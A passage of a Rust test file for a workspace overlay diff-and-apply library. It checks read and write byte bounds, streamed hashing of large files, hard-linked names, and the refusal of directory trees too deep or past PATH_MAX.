    write(&f.upper.join("edit.txt"), "one\nTWO\nthree\n");
    let layers = std::slice::from_ref(&f.upper);
    let d = diff(&f.lower, layers, &options()).unwrap();
    let before = hash_tree(&f.lower);
    let bound = 3 << 19; // 1.5 MiB: one of the two files, not both
    for dry_run in [true, false] {
        let err = apply(
            &f.lower,
            layers,
            &d,
            &ApplyOptions {
                dry_run,
                max_write_bytes: bound,
                ..ApplyOptions::default()
            },
        )
        .unwrap_err();
        match &err {
            WorkspaceError::TooLarge { total, bound: b } => {
                assert_eq!(*b, bound);
                // Both files once, the sparse file's data, the edit: far from 8 + 256 MiB.
                assert!(*total > 2 << 20 && *total < 3 << 20, "{total}");
            }
            other => panic!("not refused for its size: {other}"),
        }
        assert!(err.to_string().contains("WARDEN_APPLY_MAX_BYTES"), "{err}");
        assert_eq!(
            hash_tree(&f.lower),
            before,
            "the refused apply wrote something"
        );
    }
    // Under the bound, without the second file: the links and the holes fit.
    let applied = apply(
        &f.lower,
        layers,
        &d,
        &ApplyOptions {
            paths: (0..8)
                .map(|i| format!("one-{i}"))
                .chain(["one".into(), "holes".into(), "edit.txt".into()])
                .collect(),
            max_write_bytes: bound,
            ..ApplyOptions::default()
        },
    )
    .unwrap();
    assert_eq!(applied.applied.len(), 11);
    assert_eq!(fs::read(f.lower.join("one-7")).unwrap(), data);
    assert!(!f.lower.join("two").exists());
}

/// Every name of a file too large for a patch is listed with its hash, but the file is read
/// once; and a diff reads no more than its bound: a file past it is listed, refused, unread.
#[test]
fn a_diff_reads_a_file_of_many_names_once_and_no_more_than_its_bound() {
    let f = fixture();
    let data: Vec<u8> = (0..1 << 20).map(|i| (i % 251) as u8).collect();
    fs::write(f.upper.join("big"), &data).unwrap();
    for i in 0..15 {
        fs::hard_link(f.upper.join("big"), f.upper.join(format!("big-{i:02}"))).unwrap();
    }
    // 16 names of 1 MiB each, read within 4 MiB (2 MiB for each of the diff's two threads).
    let bounded = DiffOptions {
        max_read_bytes: 4 << 20,
        ..options()
    };
    let layers = std::slice::from_ref(&f.upper);
    let d = diff(&f.lower, layers, &bounded).unwrap();
    let hash = blake3::hash(&data).to_hex().to_string();
    let names: Vec<_> = d
        .changes
        .iter()
        .filter(|c| c.path.starts_with("big"))
        .collect();
    assert_eq!(names.len(), 16);
    for change in &names {
        assert_eq!(change.refused, None, "{}", change.path);
        assert_eq!(
            change.hash.as_deref(),
            Some(hash.as_str()),
            "{}",
            change.path
        );
    }
    // Alone past the bound: not read, and never applied.
    sparse(&f.upper.join("huge"), 5 << 20, 0, b"y");
    let d = diff(&f.lower, layers, &bounded).unwrap();
    let huge = d.changes.iter().find(|c| c.path == "huge").unwrap();
    assert_eq!(huge.size, Some(5 << 20));
    assert_eq!(huge.hash, None);
    assert!(
        huge.refused.as_deref().unwrap().contains("not read"),
        "{huge:?}"
    );
    let report = apply(&f.lower, layers, &d, &ApplyOptions::default()).unwrap();
    assert!(report.skipped.iter().any(|(p, _)| p == "huge"));
    assert!(!f.lower.join("huge").exists());
}

/// A file too large for a patch, hashed in a stream, is told from a copy of the host's by
/// its hash: the copy is no change, a change of the same size is one.
#[test]
fn a_large_file_is_told_from_a_copy_by_its_streamed_hash() {
    let f = fixture();
    let data: Vec<u8> = (0..3 << 20).map(|i| (i % 253) as u8).collect();
    fs::write(f.lower.join("large"), &data).unwrap();
    fs::write(f.lower.join("other"), &data).unwrap();
    fs::write(f.upper.join("large"), &data).unwrap(); // copied up, unchanged
    let mut changed = data.clone();
    changed[2 << 20] ^= 1;
    fs::write(f.upper.join("other"), &changed).unwrap();
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    assert!(
        !d.changes.iter().any(|c| c.path == "large"),
        "{:?}",
        d.changes
    );
    let other = d.changes.iter().find(|c| c.path == "other").unwrap();
    assert_eq!(other.kind, ChangeKind::Modified);
    assert_eq!(
        other.hash.as_deref(),
        Some(blake3::hash(&changed).to_hex().as_str())
    );
    assert_eq!(other.patch, None);
}

/// Makes a chain of `levels` directories named `name` below `top`, one level at a time (a path
/// from the top would pass PATH_MAX), with a file `deep.txt` at its bottom.
fn deep_chain(top: &Path, name: &str, levels: usize) {
    use rustix::fs::{Mode, OFlags, mkdirat, openat};
    let flags = OFlags::DIRECTORY | OFlags::RDONLY;
    let mut dir = openat(rustix::fs::CWD, top, flags, Mode::empty()).unwrap();
    for _ in 0..levels {
        mkdirat(&dir, name, Mode::from_raw_mode(0o755)).unwrap();
        dir = openat(&dir, name, flags, Mode::empty()).unwrap();
    }
    drop(
        openat(
            &dir,
            "deep.txt",
            OFlags::CREATE | OFlags::WRONLY,
            Mode::from_raw_mode(0o644),
        )
        .unwrap(),
    );
}

#[test]
fn a_tree_deeper_than_the_diff_goes_is_listed_refused_on_a_small_stack() {
    let f = fixture();
    // 3,000 levels: a recursive walk of a tree 1,900 deep overflowed a daemon thread's 2 MiB
    // stack. A shallow change beside it is listed as ever.
    deep_chain(&f.upper, "d", 3000);
    write(&f.upper.join("new.txt"), "new\n");
    let (lower, upper) = (f.lower.clone(), f.upper.clone());
    let run = move |options: DiffOptions| {
        let (lower, upper) = (lower.clone(), upper.clone());
        std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || diff(&lower, std::slice::from_ref(&upper), &options))
            .unwrap()
            .join()
            .unwrap()
    };
    let d = run(options()).unwrap();
    let deepest = vec!["d"; warden_workspace::MAX_DEPTH + 1].join("/");
    let refused: Vec<_> = d.changes.iter().filter(|c| c.refused.is_some()).collect();
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(refused[0].path, deepest);
    assert_eq!(refused[0].entry, EntryKind::Dir);
    assert!(
        refused[0]
            .refused
            .as_deref()
            .unwrap()
            .contains("deeper than 256 levels: not read; a change below it cannot be applied"),
        "{:?}",
        refused[0]
    );
    // Every level above it is listed, nothing below it.
    let dirs = d.changes.iter().filter(|c| c.path.starts_with('d')).count();
    assert_eq!(dirs, warden_workspace::MAX_DEPTH + 1);
    assert!(d.changes.iter().any(|c| c.path == "new.txt"));
    // An apply of everything skips the refused directory, and applies the rest.
    let report = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions::default(),
    );
    assert!(report.is_ok(), "{report:?}");
    assert!(f.lower.join("new.txt").exists());
    assert!(f.lower.join(vec!["d"; 256].join("/")).is_dir());
    assert!(!f.lower.join(&deepest).exists());
    // A caller that must read the whole tree is told where it could not, by name.
    let err = run(DiffOptions {
        unread_fails: true,
        ..options()
    })
    .unwrap_err();
    assert!(
        matches!(&err, WorkspaceError::Unread { path, .. } if *path == deepest),
        "{err}"
    );
    assert!(err.to_string().contains("deeper than 256 levels"), "{err}");
}

#[test]
fn a_directory_a_lower_layer_holds_past_path_max_is_refused_not_left_out() {
    // Two layers: the upper at a short path, the one below at a path 150 characters longer.
    // A directory both hold at a depth that the upper's path reaches within PATH_MAX and the
    // lower's does not: its entries in the lower layer cannot be read by path, and went
    // missing from the diff without a word.
    let tmp = tempfile::tempdir().unwrap();
    let lower = tmp.path().join("host");
    let upper = tmp.path().join("u");
    let below = tmp.path().join("s".repeat(150));
    for dir in [&lower, &upper, &below] {
        fs::create_dir_all(dir).unwrap();
    }
    // Levels of 100 characters, as many as keep the upper's path of the deepest well within
    // PATH_MAX.
    let name = "n".repeat(100);
    let levels = (4000 - upper.as_os_str().len()) / 101;
    deep_chain(&upper, &name, levels);
    deep_chain(&below, &name, levels);
    let reach = below.as_os_str().len() + levels * 101;
    assert!(
        reach >= 4096,
        "the lower layer's deepest is reachable: {reach}"
    );
    let layers = [upper.clone(), below.clone()];
    let d = diff(&lower, &layers, &options()).unwrap();
    let refused: Vec<_> = d.changes.iter().filter(|c| c.refused.is_some()).collect();
    assert!(
        refused
            .iter()
            .any(|c| c.refused.as_deref().unwrap().contains("cannot reach it")),
        "{:?}",
        d.changes
            .iter()
            .map(|c| (c.path.len(), &c.refused))
            .collect::<Vec<_>>()
    );
}

/// A cell makes patches for almost nothing: one text file and many more names for it (hard
/// links take no room). Each name was read and given its patch: 200 KB and 2,000 names made a
/// diff of 458 MB as JSON that took the daemon 1 GB of memory. Patches stop at the diff's bound
/// on them; the files past it are listed with their hash, as files too large for a patch are.
#[test]
fn patches_of_one_file_under_many_names_stop_at_the_diffs_bound() {
    const LINKS: usize = 400;
    let root = tempfile::tempdir().unwrap();
    let lower = root.path().join("lower");
    let upper = root.path().join("upper");
    fs::create_dir_all(&lower).unwrap();
    fs::create_dir_all(upper.join("l")).unwrap();
    let text: String = (0..40_000).map(|i| format!("{i}\n")).collect();
    let first = upper.join("l").join("f");
    fs::write(&first, &text).unwrap();
    for i in 0..LINKS {
        fs::hard_link(&first, upper.join("l").join(format!("n{i:04}"))).unwrap();
    }

    let d = diff(&lower, &[upper], &DiffOptions::default()).unwrap();

    let files: Vec<_> = d.changes.iter().filter(|c| c.path != "l").collect();
    assert_eq!(files.len(), LINKS + 1);
    let hash = blake3::hash(text.as_bytes()).to_hex().to_string();
    assert!(
        files
            .iter()
            .all(|c| c.hash.as_deref() == Some(hash.as_str()))
    );
    let patched = files.iter().filter(|c| c.patch.is_some()).count();
    let kept: usize = files
        .iter()
        .filter_map(|c| c.patch.as_ref())
        .map(String::len)
        .sum();
    eprintln!("{patched} patches of {} names, {kept} bytes", files.len());
    assert!(patched > 0, "the first files have their patch");
    assert!(
        kept as u64 <= warden_workspace::DEFAULT_MAX_PATCHES_BYTES,
        "{kept} bytes of patches kept"
    );
}
